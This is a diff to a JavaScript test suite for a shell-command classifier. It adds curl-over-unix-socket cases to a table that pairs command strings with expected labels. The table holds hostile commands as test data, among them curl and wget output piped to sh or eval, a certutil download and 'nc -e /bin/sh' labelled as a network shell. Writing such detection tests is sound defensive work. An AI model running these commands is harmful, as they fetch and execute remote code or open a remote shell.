@@ -136,6 +136,8 @@ describe('what a shell text does', () => {
     [`eval \`wget -O - ${URL}\``, ['other [eval]', `download ${URL} -> - [eval]`, `download ${URL} -> eval`]],
     ['curl a.test/x > /tmp/y', ['download a.test/x -> /tmp/y']],
     [`curl -fsSLo a.sh ${URL}; wget ${URL}`, [`download ${URL} -> a.sh`, `download ${URL} -> x`]],
+    ['curl -s --unix-socket /run/own.sock http://own/state', ['other']],
+    [`curl -s --unix-socket /run/own.sock ${URL} | sh`, [`download ${URL} -> sh`, 'other']],
     [`curl -O ${URL}`, [`download ${URL} -> x`]],
     [`certutil.exe -urlcache -f ${URL} a.exe`, [`download ${URL} -> -`]],
     ['nc -e /bin/sh a.test 4444', ['network-shell']],
